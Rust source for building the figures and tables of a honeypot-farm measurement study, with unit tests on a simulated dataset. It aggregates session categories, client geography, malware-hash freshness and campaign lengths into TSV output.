#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fig5 {
    /// All sessions.
    pub total: u64,
    /// Sessions that offered credentials.
    pub with_creds: u64,
    /// Sessions with a successful login.
    pub login_ok: u64,
    /// Sessions that executed commands.
    pub with_cmds: u64,
    /// Sessions that referenced a URI.
    pub with_uri: u64,
}

/// Build Fig. 5.
pub fn fig5(agg: &Aggregates) -> Fig5 {
    let c = &agg.cat_totals;
    Fig5 {
        total: c.iter().sum(),
        with_creds: c[1] + c[2] + c[3] + c[4],
        login_ok: c[2] + c[3] + c[4],
        with_cmds: c[3] + c[4],
        with_uri: c[4],
    }
}

impl Fig5 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["edge", "sessions"])?;
        for (e, n) in [
            ("total", self.total),
            ("with_creds", self.with_creds),
            ("login_ok", self.login_ok),
            ("with_cmds", self.with_cmds),
            ("with_uri", self.with_uri),
        ] {
            writeln!(w, "{e}\t{n}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 6: per-day category fractions plus total sessions.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig6 {
    /// Per-day fraction per category (indexed by Category::index()).
    pub fractions: Vec<[f64; 5]>,
    /// Per-day total sessions (the black line).
    pub totals: Vec<u64>,
}

/// Build Fig. 6.
pub fn fig6(agg: &Aggregates) -> Fig6 {
    let mut fractions = Vec::with_capacity(agg.n_days as usize);
    for d in 0..agg.n_days as usize {
        let total = agg.day_total[d].max(1) as f64;
        fractions.push(std::array::from_fn(|ci| {
            agg.day_by_cat[ci][d] as f64 / total
        }));
    }
    Fig6 {
        fractions,
        totals: agg.day_total.clone(),
    }
}

impl Fig6 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "day", "no_cred", "fail_log", "no_cmd", "cmd", "cmd_uri", "total",
            ],
        )?;
        for (d, fr) in self.fractions.iter().enumerate() {
            write!(w, "{d}")?;
            for x in fr {
                write!(w, "\t{x:.4}")?;
            }
            writeln!(w, "\t{}", self.totals[d])?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 7: duration ECDF per category.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig7 {
    /// One ECDF per category.
    pub ecdfs: Vec<(Category, Ecdf)>,
}

/// Build Fig. 7.
pub fn fig7(agg: &Aggregates) -> Fig7 {
    Fig7 {
        ecdfs: Category::ALL
            .iter()
            .map(|&c| {
                let hist = agg.dur_hist[c.index()]
                    .iter()
                    .enumerate()
                    .map(|(sec, &n)| (sec as u64, n));
                (c, Ecdf::from_histogram(hist))
            })
            .collect(),
    }
}

impl Fig7 {
    /// Streamed TSV rendering (downsampled points).
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["category", "duration_s", "F"])?;
        for (c, e) in &self.ecdfs {
            for (v, fr) in e.points(100) {
                writeln!(w, "{}\t{v}\t{fr:.4}", c.label())?;
            }
        }
        Ok(())
    }

    /// TSV rendering (downsampled points).
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figures 8/9: per-category daily bands.
#[derive(Debug, Clone, PartialEq)]
pub struct FigCatBands {
    /// Whether restricted to top-5% honeypots.
    pub top5_only: bool,
    /// One band series per category.
    pub bands: Vec<(Category, BandSeries)>,
}

/// Build Fig. 8 (`top5 = false`) or Fig. 9 (`top5 = true`).
pub fn fig_cat_bands(agg: &Aggregates, top5: bool) -> FigCatBands {
    let sel = top5.then(|| top5pct_honeypots(agg));
    fig_cat_bands_with(agg, sel.as_deref())
}

/// Build per-category bands from a pre-computed honeypot selection
/// (`None` = all honeypots).
pub fn fig_cat_bands_with(agg: &Aggregates, sel: Option<&[u16]>) -> FigCatBands {
    FigCatBands {
        top5_only: sel.is_some(),
        bands: Category::ALL
            .iter()
            .map(|&c| {
                (
                    c,
                    BandSeries::from_matrix(
                        &agg.day_hp_by_cat[c.index()],
                        agg.n_days,
                        agg.n_honeypots,
                        sel,
                    ),
                )
            })
            .collect(),
    }
}

impl FigCatBands {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["category", "day", "p5", "q25", "median", "q75", "p95"])?;
        for (c, series) in &self.bands {
            for p in &series.points {
                writeln!(
                    w,
                    "{}\t{}\t{:.1}\t{:.1}\t{:.1}\t{:.1}\t{:.1}",
                    c.label(),
                    p.day,
                    p.p5,
                    p.q25,
                    p.median,
                    p.q75,
                    p.p95
                )?;
            }
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figures 10 & 23: client IPs per country, overall and per category.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig10 {
    /// (ISO code, clients) overall, descending.
    pub overall: Vec<(String, u64)>,
    /// Per category.
    pub per_category: Vec<(Category, Vec<(String, u64)>)>,
}

/// Build Figs. 10/23 from per-client aggregates.
pub fn fig10(agg: &Aggregates) -> Fig10 {
    let n = country::count();
    let mut overall = vec![0u64; n];
    let mut per_cat = vec![vec![0u64; n]; 5];
    for c in agg.clients.values() {
        if c.country == u16::MAX {
            continue;
        }
        let ci = c.country as usize;
        if ci >= n {
            continue;
        }
        overall[ci] += 1;
        for (cat, counts) in per_cat.iter_mut().enumerate() {
            if c.cats & (1 << cat) != 0 {
                counts[ci] += 1;
            }
        }
    }
    let to_rows = |v: &[u64]| {
        let mut rows: Vec<(String, u64)> = v
            .iter()
            .enumerate()
            .filter(|&(_, &n)| n > 0)
            .map(|(i, &n)| {
                (
                    country::get(hf_geo::CountryId(i as u16)).code.to_string(),
                    n,
                )
            })
            .collect();
        rows.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        rows
    };
    Fig10 {
        overall: to_rows(&overall),
        per_category: Category::ALL
            .iter()
            .map(|&c| (c, to_rows(&per_cat[c.index()])))
            .collect(),
    }
}

impl Fig10 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["category", "country", "clients"])?;
        for (c, n) in &self.overall {
            writeln!(w, "ALL\t{c}\t{n}")?;
        }
        for (cat, list) in &self.per_category {
            for (c, n) in list {
                writeln!(w, "{}\t{c}\t{n}", cat.label())?;
            }
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 11: daily unique client IPs per category.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig11 {
    /// Per-day `[cat0..cat4, overall]`.
    pub daily: Vec<[u32; 6]>,
}

/// Build Fig. 11.
pub fn fig11(agg: &Aggregates) -> Fig11 {
    Fig11 {
        daily: agg.day_unique_ips.clone(),
    }
}

impl Fig11 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "day", "no_cred", "fail_log", "no_cmd", "cmd", "cmd_uri", "all",
            ],
        )?;
        for (d, row) in self.daily.iter().enumerate() {
            write!(w, "{d}")?;
            for x in row {
                write!(w, "\t{x}")?;
            }
            writeln!(w)?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figures 12/13: per-client ECDFs (honeypots contacted / active days),
/// overall and per category.
#[derive(Debug, Clone, PartialEq)]
pub struct FigClientEcdf {
    /// What is measured ("honeypots" or "days").
    pub metric: &'static str,
    /// Overall ECDF.
    pub overall: Ecdf,
    /// Per-category ECDFs.
    pub per_category: Vec<(Category, Ecdf)>,
}

/// Build Figs. 12 and 13 together in ONE pass over the client map (the
/// per-client filtering dominates both builders; `Report::build` uses this
/// fused form). `Ecdf::from_samples` sorts, so sample order is irrelevant.
pub fn client_ecdfs(agg: &Aggregates) -> (FigClientEcdf, FigClientEcdf) {
    let n = agg.clients.len();
    let mut hp_overall = Vec::with_capacity(n);
    let mut day_overall = Vec::with_capacity(n);
    let mut hp_cat: [Vec<u64>; 5] = Default::default();
    let mut day_cat: [Vec<u64>; 5] = Default::default();
    for c in agg.clients.values() {
        hp_overall.push(bit_count(&c.honeypots) as u64);
        day_overall.push(c.days as u64);
        for ci in 0..5 {
            if c.cats & (1 << ci) != 0 {
                hp_cat[ci].push(bit_count(&c.honeypots_by_cat[ci]) as u64);
                day_cat[ci].push(c.days_by_cat[ci] as u64);
            }
        }
    }
    let per_cat = |mut samples: [Vec<u64>; 5]| -> Vec<(Category, Ecdf)> {
        Category::ALL
            .iter()
            .map(|&cat| {
                (
                    cat,
                    Ecdf::from_samples(std::mem::take(&mut samples[cat.index()])),
                )
            })
            .collect()
    };
    (
        FigClientEcdf {
            metric: "honeypots",
            overall: Ecdf::from_samples(hp_overall),
            per_category: per_cat(hp_cat),
        },
        FigClientEcdf {
            metric: "days",
            overall: Ecdf::from_samples(day_overall),
            per_category: per_cat(day_cat),
        },
    )
}

/// Build Fig. 12 (honeypots contacted per client).
pub fn fig12(agg: &Aggregates) -> FigClientEcdf {
    client_ecdfs(agg).0
}

/// Build Fig. 13 (active days per client).
pub fn fig13(agg: &Aggregates) -> FigClientEcdf {
    client_ecdfs(agg).1
}

impl FigClientEcdf {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["category", self.metric, "F"])?;
        for (v, fr) in self.overall.points(200) {
            writeln!(w, "ALL\t{v}\t{fr:.4}")?;
        }
        for (c, e) in &self.per_category {
            for (v, fr) in e.points(200) {
                writeln!(w, "{}\t{v}\t{fr:.4}", c.label())?;
            }
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 14: clients per honeypot ranked, with sessions overlay and
/// per-category client counts.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig14 {
    /// Honeypot ids sorted by client count descending.
    pub order: Vec<u16>,
    /// Client counts in that order.
    pub clients: Vec<u64>,
    /// Session counts in the same order (right axis of the figure).
    pub sessions: Vec<u64>,
    /// Per-category client counts in the same order.
    pub per_category: Vec<(Category, Vec<u64>)>,
}

/// Build Fig. 14.
pub fn fig14(agg: &Aggregates) -> Fig14 {
    let mut order: Vec<u16> = (0..agg.n_honeypots as u16).collect();
    order.sort_by(|&a, &b| {
        agg.hp_clients[b as usize]
            .len()
            .cmp(&agg.hp_clients[a as usize].len())
    });
    let clients = order
        .iter()
        .map(|&h| agg.hp_clients[h as usize].len() as u64)
        .collect();
    let sessions = order.iter().map(|&h| agg.hp_sessions[h as usize]).collect();
    let per_category = Category::ALL
        .iter()
        .map(|&c| {
            (
                c,
                order
                    .iter()
                    .map(|&h| agg.hp_clients_by_cat[h as usize][c.index()].len() as u64)
                    .collect(),
            )
        })
        .collect();
    Fig14 {
        order,
        clients,
        sessions,
        per_category,
    }
}

impl Fig14 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "rank", "honeypot", "clients", "sessions", "no_cred", "fail_log", "no_cmd", "cmd",
                "cmd_uri",
            ],
        )?;
        for i in 0..self.order.len() {
            write!(
                w,
                "{}\t{}\t{}\t{}",
                i + 1,
                self.order[i],
                self.clients[i],
                self.sessions[i]
            )?;
            for (_, v) in &self.per_category {
                write!(w, "\t{}", v[i])?;
            }
            writeln!(w)?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 15: daily clients per category combination over
/// {NO_CRED, FAIL_LOG, CMD}.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig15 {
    /// Per-day combo counts; index = bitmask (1=NO_CRED, 2=FAIL_LOG, 4=CMD).
    pub daily: Vec<[u32; 8]>,
}

/// Human label for a combo bitmask.
pub fn combo_label(mask: u8) -> &'static str {
    match mask {
        1 => "scan only",
        2 => "faillog only",
        3 => "scan+faillog",
        4 => "cmd only",
        5 => "scan+cmd",
        6 => "faillog+cmd",
        7 => "scan+faillog+cmd",
        _ => "none",
    }
}

/// Build Fig. 15.
pub fn fig15(agg: &Aggregates) -> Fig15 {
    Fig15 {
        daily: agg.day_combo_clients.clone(),
    }
}

impl Fig15 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "day",
                "scan",
                "faillog",
                "scan+faillog",
                "cmd",
                "scan+cmd",
                "faillog+cmd",
                "all3",
            ],
        )?;
        for (d, row) in self.daily.iter().enumerate() {
            write!(w, "{d}")?;
            for n in &row[1..8] {
                write!(w, "\t{n}")?;
            }
            writeln!(w)?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }

    /// Total clients ever counted in more than one role (for claims).
    pub fn multi_role_total(&self) -> u64 {
        self.daily
            .iter()
            .map(|row| row[3] as u64 + row[5] as u64 + row[6] as u64 + row[7] as u64)
            .sum()
    }
}

// ---------------------------------------------------------------------------

/// Figures 16 & 24: regional diversity of client/honeypot interactions.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig16 {
    /// Per-day relation-combo counts for overall (index 0) and each
    /// category (1..=5). Mask bits: 1=in-country, 2=in-continent,
    /// 4=out-of-continent.
    pub daily: Vec<[[u32; 8]; 6]>,
}

/// Build Figs. 16/24.
pub fn fig16(agg: &Aggregates) -> Fig16 {
    Fig16 {
        daily: agg.day_region_combos.clone(),
    }
}

impl Fig16 {
    /// Fraction of clients whose interactions that day were exclusively
    /// out-of-continent, averaged over days, for a slot (0=overall, 1..=5 by
    /// category index + 1).
    pub fn mean_out_of_continent_only(&self, slot: usize) -> f64 {
        let mut num = 0u64;
        let mut den = 0u64;
        for day in &self.daily {
            let combos = &day[slot];
            let total: u32 = combos[1..].iter().sum();
            num += combos[4] as u64;
            den += total as u64;
        }
        if den == 0 {
            0.0
        } else {
            num as f64 / den as f64
        }
    }

    /// Mean fraction of clients with any in-country or in-continent contact.
    pub fn mean_local_touch(&self, slot: usize) -> f64 {
        let mut num = 0u64;
        let mut den = 0u64;
        for day in &self.daily {
            let combos = &day[slot];
            let total: u32 = combos[1..].iter().sum();
            let local: u32 = [1usize, 2, 3, 5, 6, 7].iter().map(|&m| combos[m]).sum();
            num += local as u64;
            den += total as u64;
        }
        if den == 0 {
            0.0
        } else {
            num as f64 / den as f64
        }
    }

    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        let slots = ["ALL", "NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"];
        write_header(
            w,
            &[
                "day",
                "slot",
                "in_country",
                "in_continent",
                "out",
                "mixed",
                "clients",
            ],
        )?;
        for (d, day) in self.daily.iter().enumerate() {
            for (s, combos) in day.iter().enumerate() {
                let total: u32 = combos[1..].iter().sum();
                if total == 0 {
                    continue;
                }
                writeln!(
                    w,
                    "{d}\t{}\t{}\t{}\t{}\t{}\t{total}",
                    slots[s],
                    combos[1],                                     // in-country only
                    combos[2],                                     // in-continent only
                    combos[4],                                     // out only
                    combos[3] + combos[5] + combos[6] + combos[7], // mixed
                )?;
            }
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 17: daily unique hashes and freshness fractions.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig17 {
    /// Per-day freshness points.
    pub points: Vec<FreshnessPoint>,
}

/// Build Fig. 17.
pub fn fig17(agg: &Aggregates) -> Fig17 {
    Fig17 {
        points: agg.freshness.clone(),
    }
}

impl Fig17 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["day", "unique", "fresh_ever", "fresh_30d", "fresh_7d"])?;
        for p in &self.points {
            writeln!(
                w,
                "{}\t{}\t{}\t{}\t{}",
                p.day, p.unique, p.fresh_ever, p.fresh_30d, p.fresh_7d
            )?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figures 18/19: distinct hashes per honeypot, ranked, with client and
/// session overlays.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig18 {
    /// Honeypots sorted by hash count descending.
    pub order: Vec<u16>,
    /// Hash counts in that order.
    pub hashes: Vec<u64>,
    /// Clients per honeypot, same order (Fig. 18's grey line).
    pub clients: Vec<u64>,
    /// Sessions per honeypot, same order (Fig. 19's grey line).
    pub sessions: Vec<u64>,
    /// First-seen (fresh) hash counts, same order.
    pub first_seen: Vec<u64>,
    /// Share of all hashes seen by the top honeypot (paper: <5%).
    pub top1_share: f64,
    /// Share seen by the top-10 honeypots (paper: <15%).
    pub top10_share: f64,
}

/// Build Figs. 18/19.
pub fn fig18(agg: &Aggregates) -> Fig18 {
    let mut order: Vec<u16> = (0..agg.n_honeypots as u16).collect();
    order.sort_by(|&a, &b| {
        agg.hp_hashes[b as usize]
            .len()
            .cmp(&agg.hp_hashes[a as usize].len())
    });
    let hashes: Vec<u64> = order
        .iter()
        .map(|&h| agg.hp_hashes[h as usize].len() as u64)
        .collect();
    let total_hashes = agg.n_hashes().max(1) as f64;
    // Union of the top-10 honeypots' hash sets (the paper's "top 10 see less
    // than 15% of all hashes" is about coverage, not summed counts).
    let mut union: std::collections::HashSet<u32> = std::collections::HashSet::new();
    for &h in order.iter().take(10) {
        union.extend(agg.hp_hashes[h as usize].iter().copied());
    }
    Fig18 {
        top1_share: hashes.first().copied().unwrap_or(0) as f64 / total_hashes,
        top10_share: union.len() as f64 / total_hashes,
        clients: order
            .iter()
            .map(|&h| agg.hp_clients[h as usize].len() as u64)
            .collect(),
        sessions: order.iter().map(|&h| agg.hp_sessions[h as usize]).collect(),
        first_seen: order
            .iter()
            .map(|&h| agg.hp_first_hashes[h as usize] as u64)
            .collect(),
        hashes,
        order,
    }
}

impl Fig18 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "rank",
                "honeypot",
                "hashes",
                "first_seen",
                "clients",
                "sessions",
            ],
        )?;
        for i in 0..self.order.len() {
            writeln!(
                w,
                "{}\t{}\t{}\t{}\t{}\t{}",
                i + 1,
                self.order[i],
                self.hashes[i],
                self.first_seen[i],
                self.clients[i],
                self.sessions[i]
            )?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figures 20/21: rank series (log-log long tails).
#[derive(Debug, Clone, PartialEq)]
pub struct FigRank {
    /// What the values count.
    pub metric: &'static str,
    /// (rank, value) descending.
    pub series: Vec<(u32, u64)>,
}

/// Build Fig. 20 (clients per hash).
pub fn fig20(agg: &Aggregates) -> FigRank {
    FigRank {
        metric: "clients_per_hash",
        series: rank_series(
            agg.hashes
                .iter()
                .filter(|h| h.sessions > 0)
                .map(|h| h.clients.len() as u64),
        ),
    }
}

/// Build Fig. 21 (hashes per client, over clients with ≥1 hash).
pub fn fig21(agg: &Aggregates) -> FigRank {
    FigRank {
        metric: "hashes_per_client",
        series: rank_series(
            agg.clients
                .values()
                .filter(|c| !c.hashes.is_empty())
                .map(|c| c.hashes.len() as u64),
        ),
    }
}

impl FigRank {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["rank", self.metric])?;
        for (r, v) in &self.series {
            writeln!(w, "{r}\t{v}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 22: campaign-length ECDF by tag.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig22 {
    /// ECDF over all hashes' active-day counts.
    pub all: Ecdf,
    /// Per-tag ECDFs.
    pub per_tag: Vec<(String, Ecdf)>,
}

/// Build Fig. 22.
pub fn fig22(dataset: &Dataset, agg: &Aggregates, tags: &TagDb) -> Fig22 {
    let mut by_tag: std::collections::BTreeMap<String, Vec<u64>> = Default::default();
    let mut all = Vec::new();
    for (hid, h) in agg.hashes.iter().enumerate() {
        if h.sessions == 0 {
            continue;
        }
        all.push(h.days as u64);
        let digest = dataset.sessions.digests.get(hid as u32);
        let tag = tags.tag(&digest).unwrap_or("unknown").to_string();
        by_tag.entry(tag).or_default().push(h.days as u64);
    }
    Fig22 {
        all: Ecdf::from_samples(all),
        per_tag: by_tag
            .into_iter()
            .map(|(t, v)| (t, Ecdf::from_samples(v)))
            .collect(),
    }
}

impl Fig22 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["tag", "days", "F"])?;
        for (v, fr) in self.all.points(100) {
            writeln!(w, "ALL\t{v}\t{fr:.4}")?;
        }
        for (t, e) in &self.per_tag {
            for (v, fr) in e.points(100) {
                writeln!(w, "{t}\t{v}\t{fr:.4}")?;
            }
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_farm::TagDb;
    use hf_sim::{SimConfig, Simulation};
    use std::sync::OnceLock;

    struct Fx {
        ds: hf_farm::Dataset,
        tags: TagDb,
        agg: Aggregates,
    }

    static FX: OnceLock<Fx> = OnceLock::new();

    fn fx() -> &'static Fx {
        FX.get_or_init(|| {
            let out = Simulation::run(SimConfig::test(14));
            let agg = Aggregates::compute(&out.dataset);
            Fx {
                ds: out.dataset,
                tags: out.tags,
                agg,
            }
        })
    }

    #[test]
    fn top5pct_selection_size_and_order() {
        let f = fx();
        let top = top5pct_honeypots(&f.agg);
        assert_eq!(top.len(), 12, "ceil(221 * 0.05)");
        // Every selected honeypot has at least as many sessions as any
        // non-selected one.
        let min_sel = top
            .iter()
            .map(|&h| f.agg.hp_sessions[h as usize])
            .min()
            .unwrap();
        let max_rest = (0..221u16)
            .filter(|h| !top.contains(h))
            .map(|h| f.agg.hp_sessions[h as usize])
            .max()
            .unwrap();
        assert!(min_sel >= max_rest);
    }

    #[test]
    fn fig1_covers_the_deployment() {
        let f = fx();
        let fig = fig1(&f.ds);
        assert_eq!(fig.rows.len(), 55);
        assert_eq!(fig.rows.iter().map(|(_, n)| n).sum::<usize>(), 221);
        assert!(fig.to_tsv().contains("US\t"));
    }

    #[test]
    fn fig5_flow_is_monotone_and_total() {
        let f = fx();
        let flow = fig5(&f.agg);
        assert_eq!(flow.total, f.agg.total_sessions);
        assert!(flow.total >= flow.with_creds);
        assert!(flow.with_creds >= flow.login_ok);
        assert!(flow.login_ok >= flow.with_cmds);
        assert!(flow.with_cmds >= flow.with_uri);
    }

    #[test]
    fn fig6_fractions_sum_to_one_on_active_days() {
        let f = fx();
        let fig = fig6(&f.agg);
        for (d, fr) in fig.fractions.iter().enumerate() {
            if fig.totals[d] > 0 {
                let sum: f64 = fr.iter().sum();
                assert!((sum - 1.0).abs() < 1e-9, "day {d}: {sum}");
            }
        }
    }

    #[test]
    fn fig12_per_category_bounded_by_overall() {
        let f = fx();
        let fig = fig12(&f.agg);
        assert!(!fig.overall.is_empty());
        for (_, e) in &fig.per_category {
            assert!(e.total() <= fig.overall.total());
        }
    }

    #[test]
    fn fused_client_ecdfs_match_individual_builders() {
        let f = fx();
        let (f12, f13) = client_ecdfs(&f.agg);
        assert_eq!(f12.metric, "honeypots");
        assert_eq!(f13.metric, "days");
        assert_eq!(f12.overall.total(), f.agg.n_clients() as u64);
        assert_eq!(f13.overall.total(), f.agg.n_clients() as u64);
        assert_eq!(f12.to_tsv(), fig12(&f.agg).to_tsv());
        assert_eq!(f13.to_tsv(), fig13(&f.agg).to_tsv());
    }

    #[test]
    fn shared_selection_matches_internal_selection() {
        let f = fx();
        let sel = top5pct_honeypots(&f.agg);
        assert_eq!(
            fig_bands_with(&f.agg, Some(&sel)).to_tsv(),
            fig_bands(&f.agg, true).to_tsv()
        );
        assert_eq!(
            fig_cat_bands_with(&f.agg, None).to_tsv(),
            fig_cat_bands(&f.agg, false).to_tsv()
        );
    }

    #[test]
    fn fig14_order_is_by_clients_desc() {
        let f = fx();
        let fig = fig14(&f.agg);
        assert!(fig.clients.windows(2).all(|w| w[0] >= w[1]));
        assert_eq!(fig.order.len(), f.agg.n_honeypots);
        // Per-category counts never exceed the overall client count.
        for (_, v) in &fig.per_category {
            for (i, &n) in v.iter().enumerate() {
                assert!(n <= fig.clients[i]);
            }
        }
    }

    #[test]
    fn combo_labels_cover_all_masks() {
        let labels: std::collections::BTreeSet<&str> = (1u8..8).map(combo_label).collect();
        assert_eq!(labels.len(), 7, "each mask distinct");
        assert_eq!(combo_label(0), "none");
    }

    #[test]
    fn fig18_shares_are_fractions() {
        let f = fx();
        let fig = fig18(&f.agg);
        assert!((0.0..=1.0).contains(&fig.top1_share));
        assert!((0.0..=1.0).contains(&fig.top10_share));
        assert!(fig.top1_share <= fig.top10_share);
        assert!(fig.hashes.windows(2).all(|w| w[0] >= w[1]));
    }

    #[test]
    fn fig22_grouped_by_tag() {
        let f = fx();
        let fig = fig22(&f.ds, &f.agg, &f.tags);
        assert!(!fig.all.is_empty());
        let total: u64 = fig.per_tag.iter().map(|(_, e)| e.total()).sum();
        assert_eq!(total, fig.all.total(), "tags partition the hash set");
    }

    #[test]
    fn tsv_outputs_are_nonempty() {
        let f = fx();
        assert!(fig2(&f.agg).to_tsv().lines().count() > 100);
        assert!(fig7(&f.agg).to_tsv().lines().count() > 10);
        assert!(fig11(&f.agg).to_tsv().lines().count() > 10);
        assert!(fig17(&f.agg).to_tsv().lines().count() > 2);
        assert!(fig16(&f.agg).to_tsv().lines().count() > 2);
    }
}
