//! Tables 1–6.

use std::io;

use hf_farm::{Dataset, TagDb};

use crate::aggregates::{bit_count, Aggregates};
use crate::classify::Category;
use crate::report::render::{pct, to_string, write_header};

// ---------------------------------------------------------------------------
// Table 1 — session categories × protocol
// ---------------------------------------------------------------------------

/// One category row of Table 1.
#[derive(Debug, Clone, PartialEq)]
pub struct Table1Row {
    /// The category.
    pub category: Category,
    /// Sessions in this category.
    pub sessions: u64,
    /// Share of all sessions.
    pub share: f64,
    /// SSH share *within* the category (second row of the paper's table).
    pub ssh_within: f64,
    /// Telnet share within the category.
    pub telnet_within: f64,
}

/// Table 1.
#[derive(Debug, Clone, PartialEq)]
pub struct Table1 {
    /// Five category rows in paper order.
    pub rows: Vec<Table1Row>,
    /// Overall SSH share (the paper's 75.83%).
    pub ssh_total: f64,
    /// Overall Telnet share.
    pub telnet_total: f64,
}

/// Build Table 1.
pub fn table1(agg: &Aggregates) -> Table1 {
    let total: u64 = agg.cat_totals.iter().sum();
    let ssh: u64 = agg.cat_ssh.iter().sum();
    let rows = Category::ALL
        .iter()
        .map(|&c| {
            let i = c.index();
            let sessions = agg.cat_totals[i];
            let ssh_in = if sessions == 0 {
                0.0
            } else {
                agg.cat_ssh[i] as f64 / sessions as f64
            };
            Table1Row {
                category: c,
                sessions,
                share: if total == 0 {
                    0.0
                } else {
                    sessions as f64 / total as f64
                },
                ssh_within: ssh_in,
                telnet_within: 1.0 - ssh_in,
            }
        })
        .collect();
    Table1 {
        rows,
        ssh_total: if total == 0 {
            0.0
        } else {
            ssh as f64 / total as f64
        },
        telnet_total: if total == 0 {
            0.0
        } else {
            1.0 - ssh as f64 / total as f64
        },
    }
}

impl Table1 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(
            w,
            &[
                "category",
                "sessions",
                "share",
                "ssh_within",
                "telnet_within",
            ],
        )?;
        for r in &self.rows {
            writeln!(
                w,
                "{}\t{}\t{:.2}%\t{:.2}%\t{:.2}%",
                r.category.label(),
                r.sessions,
                r.share * 100.0,
                r.ssh_within * 100.0,
                r.telnet_within * 100.0
            )?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

impl std::fmt::Display for Table1 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "{:<10} {:>12} {:>8} {:>8} {:>8}",
            "category", "sessions", "share", "ssh", "telnet"
        )?;
        for r in &self.rows {
            writeln!(
                f,
                "{:<10} {:>12} {:>8} {:>8} {:>8}",
                r.category.label(),
                r.sessions,
                pct(r.share),
                pct(r.ssh_within),
                pct(r.telnet_within)
            )?;
        }
        writeln!(
            f,
            "total ssh {} / telnet {}",
            pct(self.ssh_total),
            pct(self.telnet_total)
        )
    }
}

// ---------------------------------------------------------------------------
// Table 2 — top successful passwords
// ---------------------------------------------------------------------------

/// Table 2: most used successful passwords.
#[derive(Debug, Clone, PartialEq)]
pub struct Table2 {
